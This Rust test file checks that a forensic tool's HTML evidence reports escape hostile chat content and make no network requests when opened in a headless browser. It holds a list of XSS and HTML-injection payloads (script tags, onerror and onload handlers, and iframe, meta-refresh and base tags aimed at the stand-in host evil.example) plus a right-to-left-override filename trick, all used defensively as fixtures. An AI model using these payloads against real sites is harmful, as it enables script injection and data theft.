//! `haul report`, read by a real browser: nothing is asked of any network, nothing of the evidence runs.

#![allow(clippy::unwrap_used)]

use serde_json::{Value, json};
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex, OnceLock};
use tests::command::{binary, expect_code, haul_run, sha256};

/// The USDT contract on TRON; a published address with a checksum.
const WALLET: &str = "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t";
/// A test vector of BIP-39.
const PHRASE: &str = "legal winner thank year wave sausage worth useful legal winner thank yellow";

/// What would run, load or turn text around if it were not escaped and isolated.
const HOSTILE: &[&str] = &[
    "<script>document.title='pwned'</script>",
    "</style><script src=http://evil.example/a.js></script>",
    "<img src=http://evil.example/x.png onerror=\"document.title='pwned'\">",
    "\" onmouseover=\"document.title='pwned'\" autofocus onfocus=\"document.title='pwned'",
    "'><svg onload=document.title='pwned'><style>@import 'http://evil.example/x.css'</style>",
    "javascript:document.title='pwned' http://evil.example/?q=1",
    "</bdi></p></div></main><iframe src=http://evil.example></iframe><!--",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example>",
    "{{ 7 * 7 }} {% include \"x\" %} &lt;b&gt; ]]> \u{202e}gnp.exe\u{2066} \u{0}\u{1b}[31m",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} (1) \u{645}\u{631}\u{62d}\u{628}\u{627} \u{e44}\u{e17}\u{e22} \u{4e2d}\u{6587}",
];

fn message(number: usize, text: &str) -> Value {
    json!({
        "id": number, "type": "message", "date": "2024-05-01T10:00:00", "date_unixtime": (1_714_557_600 + number * 60).to_string(),
        "from": HOSTILE[number % HOSTILE.len()], "from_id": format!("user{}", 70 + number % 3), "text": text,
        "text_entities": [{ "type": "plain", "text": text }],
    })
}

/// A bundle of a chat with these texts.
fn made(folder: &Path, exhibit: &str, texts: &[String]) -> PathBuf {
    let evidence = folder.join(format!("evidence {exhibit}"));
    fs::create_dir_all(&evidence).unwrap();
    let messages: Vec<Value> = texts.iter().enumerate().map(|(number, text)| message(number, text)).collect();
    let chat = json!({ "name": HOSTILE[0], "type": "private_group", "id": 77, "messages": messages });
    fs::write(evidence.join("result.json"), chat.to_string()).unwrap();
    fs::write(evidence.join("<img src=x onerror=alert(1)>.zip"), b"PK\x03\x04 no archive").unwrap();
    let mut command = Command::new(binary("haul"));
    command.arg("run").arg(&evidence).args(["--case", "<b>CASE</b>", "--exhibit", exhibit]).arg("--out").arg(folder.join("out"));
    command.env("HAUL_KEY", folder.join("key"));
    expect_code(&mut command, 0);
    folder.join("out").join(format!("{exhibit}.sqlite"))
}

fn texts() -> Vec<String> {
    let own = [format!("send it to {WALLET} today"), format!("my words are: {}", PHRASE.replace(' ', ", "))];
    HOSTILE.iter().map(|text| (*text).to_owned()).chain(own).collect()
}

/// A bundle with all of that, made once.
fn bundle() -> &'static Path {
    static BUNDLE: OnceLock<(tempfile::TempDir, PathBuf)> = OnceLock::new();
    let (_, path) = BUNDLE.get_or_init(|| {
        let folder = tempfile::tempdir().unwrap();
        let path = made(folder.path(), "1", &texts());
        (folder, path)
    });
    path
}

/// The report of bundles, in a folder of its own.
fn report(bundles: &[&Path], more: &[&str]) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("report.html");
    expect_code(Command::new(binary("haul")).arg("report").args(bundles).arg("-o").arg(&out).args(more), 0);
    (folder, out)
}

/// A proxy that answers nothing and keeps what was asked of it.
struct Recorder {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let kept = asked.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let mut bytes = [0; 512];
                let read = stream.read(&mut bytes).unwrap_or(0);
                let line = String::from_utf8_lossy(&bytes[..read]).lines().next().unwrap_or("").to_owned();
                kept.lock().unwrap().push(line);
                // Refused or not, it was asked; whoever asked may be gone.
                stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n").unwrap_or(());
            }
        });
        Recorder { port, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// A page in headless Chromium; every request of the page or of its scripts goes to the recorder. What it printed.
fn browse(page: &Path, recorder: &Recorder, arguments: &[&str]) -> String {
    let profile = tempfile::tempdir().unwrap();
    let mut command = Command::new("chromium");
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]);
    command.args(["--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions"]);
    command.args([
        "--disable-default-apps",
        "--no-pings",
        "--disable-domain-reliability",
        "--disable-client-side-phishing-detection",
    ]);
    command.arg(format!("--proxy-server=http://127.0.0.1:{}", recorder.port)).arg("--proxy-bypass-list=<-loopback>");
    command.arg(format!("--user-data-dir={}", profile.path().display())).args(arguments);
    command.arg(format!("file://{}", page.display())).env("HOME", profile.path());
    let output = command.output().expect("chromium is missing: scripts/packages test installs it");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// What of a page's requests leads to the host of the evidence.
fn evil(recorder: &Recorder) -> Vec<String> {
    recorder.asked().into_iter().filter(|line| line.contains("evil.example")).collect()
}

#[test]
fn a_browser_runs_and_asks_for_nothing() {
    let recorder = Recorder::start();
    let (_folder, page) = report(&[bundle()], &[]);
    let dom = browse(&page, &recorder, &["--dump-dom"]);
    assert!(dom.contains("<title>Haul report</title>"), "{dom}");
    // As the browser understood it, not as it was written: no element but the report's own.
    for element in ["<script", "<img", "<iframe", "<base", "<object", "<embed", "<form", "<link"] {
        assert!(!dom.contains(element), "{element}");
    }
    assert_eq!((dom.matches("<style").count(), dom.matches("http-equiv").count() - escaped(&dom, "http-equiv")), (1, 1));
    let asked = recorder.asked();
    assert!(evil(&recorder).is_empty(), "{asked:?}");
    let picture = page.with_extension("png");
    browse(&page, &recorder, &["--window-size=1200,1600", &format!("--screenshot={}", picture.display())]);
    let png = fs::read(&picture).unwrap();
    assert!(png.starts_with(b"\x89PNG") && png.len() > 20_000, "{} bytes", png.len());
    assert!(evil(&recorder).is_empty());
}

/// How often a word stands in text rather than in a tag: after `&lt;` and before the next tag.
fn escaped(dom: &str, word: &str) -> usize {
    dom.split("&lt;").skip(1).filter(|text| text.split('<').next().unwrap().contains(word)).count()
}

/// The test above can fail: the same texts unescaped and without the policy do run and do ask.
#[test]
fn the_browser_would_have_run_it() {
    let recorder = Recorder::start();
    let folder = tempfile::tempdir().unwrap();
    let page = folder.path().join("page.html");
    fs::write(&page, format!("<title>x</title><p>{}</p><p>{}</p>", HOSTILE[0], HOSTILE[2])).unwrap();
    let dom = browse(&page, &recorder, &["--dump-dom"]);
    assert!(dom.contains("<title>pwned</title>"), "{dom}");
    assert!(!evil(&recorder).is_empty());
    // And the report's policy alone, without its escaping, stops both.
    let recorder = Recorder::start();
    let (_report, report) = report(&[bundle()], &[]);
    let text = fs::read_to_string(&report).unwrap();
    fs::write(&page, text.replace("</main>", &format!("<p>{}</p><p>{}</p></main>", HOSTILE[0], HOSTILE[2]))).unwrap();
    let dom = browse(&page, &recorder, &["--dump-dom"]);
    assert!(dom.contains("<title>Haul report</title>") && dom.contains("<img"), "{dom}");
    assert!(evil(&recorder).is_empty(), "{:?}", recorder.asked());
}

#[test]
fn a_report_has_every_section_and_says_who_sent_the_wallet() {
    let (_folder, page) = report(&[bundle()], &[]);
    let text = fs::read_to_string(&page).unwrap();
    for section in [
        "glance",
        "exhibits",
        "timeline",
        "people",
        "persons",
        "shared",
        "wallets",
        "chats",
        "conversations",
        "calls",
        "contacts",
        "owners",
        "devices",
        "secrets",
        "ledger",
        "problems",
        "custody",
        "verify",
    ] {
        assert_eq!(text.matches(&format!("<section id=\"{section}\"")).count(), 1, "{section}");
        assert!(text.contains(&format!("href=\"#{section}\"")), "{section}");
    }
    assert_eq!(text.matches("<div class=\"m\" id=").count(), texts().len());
    assert!(text.contains(&format!("<h3><bdi>{WALLET}</bdi></h3>")) && text.contains("checksum verified"));
    // The custody beside the bundle, checked, and its head, which paper can be compared with.
    let custody = text.split("<section id=\"custody\"").nth(1).unwrap().split("</section>").next().unwrap();
    let head = export::custody::check(bundle(), None).unwrap().chain.head().to_owned();
    assert!(custody.contains("It holds") && custody.contains(&head) && custody.contains("<bdi>seal</bdi>"), "{custody}");
    // The wallet's place links to the message that has it.
    let wallets = text.split("<section id=\"wallets\"").nth(1).unwrap().split("</section>").next().unwrap();
    let target = wallets.split("href=\"#m").nth(1).unwrap().split('"').next().unwrap();
    let bubble = text.split(&format!("id=\"m{target}\"")).nth(1).unwrap();
    assert!(bubble.split("class=\"id\"").next().unwrap().contains("send it to"));
    assert!(wallets.contains("received on <bdi>1</bdi>"), "{wallets}");
    assert!(text.contains("<span class=\"hidden\">\\u{202e}</span>gnp.exe") && text.contains("{{ 7 * 7 }}"));
    assert!(text.contains("Exhibit <bdi>1</bdi>") && text.contains("&lt;b&gt;CASE&lt;/b&gt;") && text.contains("haul-bundle"));
    let (_again, same) = report(&[bundle()], &[]);
    assert_eq!(sha256(&page), sha256(&same));
}

#[test]
fn secrets_are_masked_wherever_they_stand() {
    let shown = |more: &[&str]| {
        let (_folder, page) = report(&[bundle()], more);
        fs::read_to_string(page).unwrap()
    };
    let masked = shown(&[]);
    for part in ["sausage", "yellow", "winner"] {
        assert!(!masked.contains(part), "{part}");
    }
    assert!(masked.contains("my words are: <span class=\"masked\">") && masked.contains("••••"));
    assert!(shown(&["--show-secrets"]).contains(PHRASE));
}

/// Every link leads to a place that is there.
fn assert_links_lead_somewhere(index: &Path) {
    let folder = index.with_file_name("report_files");
    let pages: Vec<PathBuf> = fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    let text = |path: &Path| fs::read_to_string(path).unwrap();
    for page in pages.iter().chain([&index.to_owned()]) {
        for link in text(page).split("href=\"").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned()) {
            let (file, place) = link.split_once('#').unwrap_or((&link, ""));
            let target = if file.is_empty() { page.clone() } else { page.parent().unwrap().join(file) };
            assert!(target.is_file(), "{link} of {}", page.display());
            assert!(place.is_empty() || text(&target).contains(&format!("id=\"{place}\"")), "{link} of {}", page.display());
        }
    }
}

#[test]
fn a_long_report_is_an_index_and_pages() {
    let folder = tempfile::tempdir().unwrap();
    let mut many: Vec<String> = (0..6_000).map(|number| format!("message number {number}")).collect();
    many.extend(texts());
    let (_report, index) = report(&[&made(folder.path(), "2", &many)], &[]);
    assert_links_lead_somewhere(&index);
    let read = |page: usize| fs::read_to_string(index.with_file_name(format!("report_files/conversations-{page}.html"))).unwrap();
    let count: usize = (1..=4).map(|page| read(page).matches("<div class=\"m\" id=").count()).sum();
    assert_eq!(count, many.len());
    assert!(read(3).contains("message number 5999") && !fs::read_to_string(&index).unwrap().contains("message number"));
    // Pages of another report are never mixed in.
    let mut again = Command::new(binary("haul"));
    expect_code(again.arg("report").arg(bundle()).arg("-o").arg(&index), 0);
    let mut again = Command::new(binary("haul"));
    expect_code(again.arg("report").arg(folder.path().join("out/2.sqlite")).arg("-o").arg(&index), 2);
}

#[test]
fn what_exhibits_share_is_listed_for_bundles_apart_and_merged() {
    let folder = tempfile::tempdir().unwrap();
    let (one, two) = (bundle(), made(folder.path(), "2", &[format!("also {WALLET}")]));
    let merged = folder.path().join("merged.sqlite");
    let mut merge = Command::new(binary("haul"));
    merge.arg("merge").args([one, &two]).arg("-o").arg(&merged).env("HAUL_KEY", folder.path().join("key"));
    expect_code(&mut merge, 0);
    for bundles in [vec![one, &two], vec![merged.as_path()]] {
        let (_report, page) = report(&bundles, &[]);
        let text = fs::read_to_string(page).unwrap();
        let shared = text.split("<section id=\"shared\"").nth(1).unwrap().split("</section>").next().unwrap();
        assert!(shared.contains(WALLET) && shared.contains("<td class=\"n\">2</td>"), "{shared}");
        assert!(text.contains("on 2 exhibits, seen") && text.contains("Haul report: 2 exhibits"));
    }
}

#[test]
fn what_was_left_out_of_a_bundle_is_absent_from_its_report() {
    let folder = tempfile::tempdir().unwrap();
    let partial = folder.path().join("partial.sqlite");
    fs::copy(bundle(), &partial).unwrap();
    let sql = "ALTER TABLE message DROP COLUMN sender; ALTER TABLE item DROP COLUMN path; DROP TABLE secret; DROP TABLE contact;
        DROP TABLE ledger; DROP TABLE account; DROP TABLE custody;";
    expect_code(Command::new("sqlite3").arg(&partial).arg(sql), 0);
    let (_report, page) = report(&[&partial], &[]);
    let text = fs::read_to_string(page).unwrap();
    assert!(text.contains("sender not told") && text.contains(WALLET) && !text.contains("result.json"));
    fs::write(&partial, "no bundle").unwrap();
    let mut refused = Command::new(binary("haul"));
    expect_code(refused.arg("report").arg(&partial).arg("-o").arg(folder.path().join("r.html")), 2);
}

/// A phone with deleted and live messages of many apps, as the samples have it.
#[test]
fn the_samples_give_a_report() {
    let folder = tempfile::tempdir().unwrap();
    let samples = tests::root().join("tests/samples/phone");
    expect_code(&mut haul_run(&samples, &folder.path().join("out"), &folder.path().join("key")), 0);
    let (_report, page) = report(&[&folder.path().join("out/1.sqlite")], &[]);
    let text = fs::read_to_string(page).unwrap();
    assert_eq!(text.matches("<div class=\"m").count(), 20);
    assert!(text.contains("WhatsApp") && text.contains("Telegram") && text.contains("<svg role=\"img\" aria-label=\"Timeline\""));
}
